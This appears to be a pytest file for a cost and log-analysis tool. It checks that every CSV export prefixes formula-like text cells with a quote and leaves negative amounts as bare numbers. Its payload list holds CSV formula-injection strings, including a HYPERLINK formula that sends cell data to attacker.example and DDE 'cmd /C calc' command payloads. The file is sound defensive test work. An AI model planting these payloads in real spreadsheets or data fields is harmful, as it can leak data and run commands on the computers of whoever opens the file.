"""Issue 12, M4: no CSV sentier writes runs as a spreadsheet formula; numbers stay numbers.

Resource ids, tags, descriptions and log lines are chosen by whoever runs a resource or
emits a log. Each CSV writer is exercised through its real entry point (the chargeback export
the API serves, ``cost``/``carbon --format csv``, the log parser's files), with OWASP's
payloads, and read back: every text cell a spreadsheet would run starts with a single quote
and is quoted; a negative amount is still written as a bare number.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import Engine
from typer.testing import CliRunner

from sentier.cli import app
from tests.finops.finops_helpers import ingest_org, line, write_focus

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\uff1dHYPERLINK(1)",  # full-width equals sign
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\uff1d")

runner = CliRunner()


def _read(path: Path) -> str:
    """The file as written (no newline translation: a CR inside a cell is data)."""
    return path.read_bytes().decode("utf-8")


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_inert(text: str) -> None:
    """No parsed cell starts like a formula, and every neutralised cell was quoted."""
    for row in _cells(text):
        for cell in row:
            assert not cell.startswith(DANGEROUS) or _is_number(cell), repr(cell)
            if cell.startswith("'"):
                quoted = '"' + cell.replace('"', '""') + '"'
                assert quoted in text, f"{cell!r} is not quoted"


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


def test_the_rule_prefixes_text_only() -> None:
    from sentier.csvsafe import neutralise

    for payload in PAYLOADS:
        assert neutralise(payload) == "'" + payload
    for harmless in ("team-a", "a=b", " -1", "", "'already"):
        assert neutralise(harmless) == harmless
    for number in (Decimal("-12.50"), -3, -2.5, 0):
        assert neutralise(number) == number


def test_rows_quote_every_text_cell_and_leave_numbers_bare() -> None:
    from sentier.csvsafe import write_rows

    out = io.StringIO()
    write_rows(out, ["name", "amount"], [[p, Decimal("-12.50")] for p in PAYLOADS])
    text = out.getvalue()
    _assert_inert(text)
    lines = text.splitlines()
    assert lines[0] == '"name","amount"'
    assert lines[1].endswith(",-12.50")  # a credit, summable
    assert lines[4] == '"\'-2+3",-12.50'


def _malicious_bill(tmp_path: Path) -> Path:
    rows = [
        line(
            cost=str(10 + i),
            ResourceId=payload,
            SubAccountName=payload,
            ChargeDescription=payload,
            tags={"team": payload, "service": "shop"},
        )
        for i, payload in enumerate(PAYLOADS)
    ]
    rows.append(line(cost="-12.50", ResourceId="i-credit", ChargeCategory="Credit"))
    return write_focus(tmp_path / "bill.csv", rows)


@pytest.fixture
def billed(sqlite_engine: Engine, tmp_path: Path) -> Engine:
    ingest_org(sqlite_engine, tmp_path)
    result = runner.invoke(app, ["cost", "ingest", str(_malicious_bill(tmp_path))])
    assert result.exit_code == 0, result.output
    return sqlite_engine


def test_the_chargeback_export_the_api_serves_is_inert(billed: Engine, tmp_path: Path) -> None:
    from sentier.analytics import duckdb_connection
    from sentier.finops import Facts, load_rules, load_snapshot
    from sentier.finops.export import export_focus
    from sentier.store import session_scope

    con = duckdb_connection()
    with session_scope(billed) as session:
        snapshot = load_snapshot(session)
    target = tmp_path / "out" / "chargeback.csv"
    summary = export_focus(Facts(con), snapshot, load_rules(None), target)
    con.disconnect()
    text = _read(target)
    _assert_inert(text)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert summary["rows"] == len(rows) == len(PAYLOADS) + 1
    assert {r["ResourceId"] for r in rows} == {"'" + p for p in PAYLOADS} | {"i-credit"}
    assert all(r["Tags"].startswith("{") for r in rows if r["Tags"])  # JSON is not a formula
    # The credit is a bare number in the file: a spreadsheet sums it.
    [credit] = [r for r in rows if r["ResourceId"] == "i-credit"]
    assert Decimal(credit["EffectiveCost"]) == Decimal("-12.50")
    assert "," + credit["EffectiveCost"] + "," in text
    assert sum(Decimal(r["EffectiveCost"]) for r in rows) == summary["effective"]


def test_the_chargeback_export_from_the_cli_is_inert(billed: Engine, tmp_path: Path) -> None:
    target = tmp_path / "cli.csv"
    result = runner.invoke(app, ["cost", "export", "--focus", str(target)])
    assert result.exit_code == 0, result.output
    _assert_inert(_read(target))


def test_cost_reports_as_csv_are_inert(billed: Engine) -> None:
    for by in ("tag:team", "sub-account", "group"):
        result = runner.invoke(app, ["cost", "report", "--by", by, "--format", "csv"])
        assert result.exit_code == 0, result.output
        _assert_inert(result.output)
    result = runner.invoke(app, ["cost", "report", "--by", "tag:team", "--format", "csv"])
    keys = {row[0] for row in _cells(result.output)[1:]}
    assert "'" + PAYLOADS[0].lower() in keys  # the tagging plan lower-cases tag values


def test_carbon_lines_as_csv_are_inert(billed: Engine) -> None:
    result = runner.invoke(app, ["carbon", "lines", "--format", "csv"])
    assert result.exit_code == 0, result.output
    _assert_inert(result.output)
    resources = {row[2] for row in _cells(result.output)[1:]}
    assert "'" + PAYLOADS[1] in resources


def test_the_log_parsers_csv_files_are_inert(tmp_path: Path) -> None:
    from sentier.aiops.logs import MinerSettings, TemplateMiner
    from sentier.aiops.logs.parse import parse_file

    log = tmp_path / "app.log"
    log.write_text(
        "".join(f"2024-09-01 INFO {p.strip()}\n" for p in PAYLOADS[:4])
        + "2024-09-01 INFO =cmd|' /C calc'!A0\n",
        encoding="utf-8",
    )
    structured, templates = tmp_path / "out" / "structured.csv", tmp_path / "out" / "t.csv"
    parse_file(
        log,
        TemplateMiner(MinerSettings()),
        log_format="<Date> <Level> <Content>",
        structured=structured,
        templates=templates,
    )
    text = _read(structured)
    _assert_inert(text)
    rows = _cells(text)
    assert rows[0][:3] == ["LineId", "Date", "Level"]
    assert [r[3] for r in rows[1:]][:2] == ["'" + PAYLOADS[0], "'" + PAYLOADS[1]]
    assert text.splitlines()[1].startswith("1,")  # line numbers stay numbers
    _assert_inert(_read(templates))
